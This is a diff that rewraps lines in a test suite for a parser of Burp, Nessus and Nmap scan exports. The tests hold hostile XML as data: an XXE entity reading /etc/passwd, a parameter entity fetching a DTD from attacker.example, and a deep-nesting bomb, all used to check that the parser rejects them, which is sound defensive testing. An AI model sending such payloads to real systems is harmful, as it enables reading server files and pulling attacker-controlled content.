@@ -35,14 +35,21 @@ describe('entity declarations', () => {
   });
 
   it('refuses external entities and parameter entities', () => {
-    const external = '<?xml version="1.0"?>\n<!DOCTYPE issues [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<issues><issue><name>&xxe;</name></issue></issues>';
+    const external =
+      '<?xml version="1.0"?>\n<!DOCTYPE issues [\n<!ENTITY xxe SYSTEM ' +
+      '"file:///etc/passwd">\n]>\n<issues><issue><name>&xxe;</name></issue></issues>';
     expect(parseError(utf8(external), 'burp').message).toMatch(/entity declarations are refused/);
-    const parameter = '<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n<nmaprun/>';
+    const parameter =
+      '<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY % remote SYSTEM ' +
+      '"http://attacker.example/x.dtd"> %remote;]>\n<nmaprun/>';
     expect(parseError(utf8(parameter), 'nmap').format).toBe('nmap');
   });
 
   it('rejects references to undefined entities with a position', () => {
-    const error = parseError(utf8(`${NESSUS_HEAD}<NessusClientData_v2>\n<Report name="&evil;"/></NessusClientData_v2>`), 'nessus');
+    const error = parseError(
+      utf8(`${NESSUS_HEAD}<NessusClientData_v2>\n<Report name="&evil;"/></NessusClientData_v2>`),
+      'nessus',
+    );
     expect(error.message).toMatch(/^Nessus file is not well-formed XML at line 3, column \d+: .*entity/);
     expect(error.line).toBe(3);
   });
@@ -56,7 +63,8 @@ describe('entity declarations', () => {
       ']>',
       '<issues burpVersion="2024.1">',
       '<issue><type>1049088</type><name><![CDATA[SQL <injection>]]></name><host ip="10.0.0.1">https://a.example</host>',
-      '<path><![CDATA[/x]]></path><location><![CDATA[/x [id parameter]]]></location><severity>High</severity><confidence>Firm</confidence></issue>',
+      '<path><![CDATA[/x]]></path><location><![CDATA[/x [id ' +
+        'parameter]]]></location><severity>High</severity><confidence>Firm</confidence></issue>',
       '</issues>',
     ].join('\n');
     const result = parseScan(utf8(burp), { format: 'burp' });
@@ -76,7 +84,9 @@ describe('structure', () => {
   it('reports a truncated file at its end', () => {
     const full = readFixture('nessus/dd__nessus_many_vuln.xml');
     const error = parseError(full.subarray(0, 200_000), 'nessus');
-    expect(error.message).toMatch(/^Nessus file is not well-formed XML at line \d+, column \d+: the file ends inside <\w+>; it looks truncated/);
+    expect(error.message).toMatch(
+      /^Nessus file is not well-formed XML at line \d+, column \d+: the file ends inside <\w+>; it looks truncated/,
+    );
     expect(error.line).toBeGreaterThan(1);
     expect(error.column).toBeGreaterThan(0);
   });
@@ -87,7 +97,9 @@ describe('structure', () => {
   });
 
   it('rejects a 50,000-level nesting bomb quickly', () => {
-    const bomb = utf8(`${NESSUS_HEAD}<NessusClientData_v2>${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}</NessusClientData_v2>`);
+    const bomb = utf8(
+      `${NESSUS_HEAD}<NessusClientData_v2>${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}</NessusClientData_v2>`,
+    );
     const started = performance.now();
     const error = parseError(bomb, 'nessus');
     expect(performance.now() - started).toBeLessThan(2_000);
@@ -97,7 +109,9 @@ describe('structure', () => {
   });
 
   it('rejects a single text node larger than the node limit', () => {
-    const head = `${NESSUS_HEAD}<NessusClientData_v2><Report name="r"><ReportHost name="h"><ReportItem pluginID="1" severity="1"><plugin_output>`;
+    const head =
+      `${NESSUS_HEAD}<NessusClientData_v2><Report name="r"><ReportHost ` +
+      `name="h"><ReportItem pluginID="1" severity="1"><plugin_output>`;
     const bytes = new Uint8Array(head.length + LIMITS.xmlNodeChars + 2_000_000).fill(0x61);
     bytes.set(utf8(head));
     const error = parseError(bytes, 'nessus');
@@ -126,7 +140,12 @@ describe('bytes that are not text', () => {
   });
 
   it('reads UTF-16 and declared single-byte encodings', () => {
-    const xml = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<nmaprun version="7.9"><host><status state="up"/><address addr="10.0.0.9" addrtype="ipv4"/><hostnames><hostname name="caf\u00e9" type="PTR"/></hostnames><ports><port protocol="tcp" portid="80"><state state="open"/></port></ports></host></nmaprun>';
+    const xml =
+      '<?xml version="1.0" encoding="ISO-8859-1"?>\n<nmaprun ' +
+      'version="7.9"><host><status state="up"/><address addr="10.0.0.9" ' +
+      'addrtype="ipv4"/><hostnames><hostname name="caf\u00e9" ' +
+      'type="PTR"/></hostnames><ports><port protocol="tcp" portid="80"><state ' +
+      'state="open"/></port></ports></host></nmaprun>';
     const latin1 = Uint8Array.from(xml, (c) => c.charCodeAt(0));
     expect(parseScan(latin1).findings[0].occurrences[0].asset.hostname).toBe('caf\u00e9');
     const utf16 = new Uint8Array(2 + xml.length * 2);
@@ -136,7 +155,9 @@ describe('bytes that are not text', () => {
   });
 
   it('refuses an encoding it cannot decode', () => {
-    expect(parseError(utf8('<?xml version="1.0" encoding="x-klingon"?><nmaprun/>'), 'nmap').message).toMatch(/encoding "x-klingon"/);
+    expect(parseError(utf8('<?xml version="1.0" encoding="x-klingon"?><nmaprun/>'), 'nmap').message).toMatch(
+      /encoding "x-klingon"/,
+    );
   });
 });
 
@@ -155,7 +176,11 @@ describe('content before the XML declaration', () => {
   it('does not take an <?xml inside the document for a declaration', () => {
     // XML end-of-line handling turns CRLF into LF; that is why Burp exports default to base64.
     const body = 'POST / HTTP/1.1\n\n<?xml version="1.0"?><a/>';
-    const burp = `<issues>\n<issue><type>1</type><name>x</name><host>http://h</host><severity>Low</severity><requestresponse><request base64="false"><![CDATA[${body}]]></request></requestresponse></issue></issues>`;
+    const burp =
+      `<issues>\n<issue><type>1</type><name>x</name><host>http://h</host><severity>Low</severity><requestresponse><request ` +
+      `` +
+      `` +
+      `base64="false"><![CDATA[${body}]]></request></requestresponse></issue></issues>`;
     const result = parseScan(utf8(burp), { format: 'burp' });
     expect(result.stats.quirk).toBeNull();
     expect(result.findings[0].occurrences[0].evidence?.request).toBe(body);
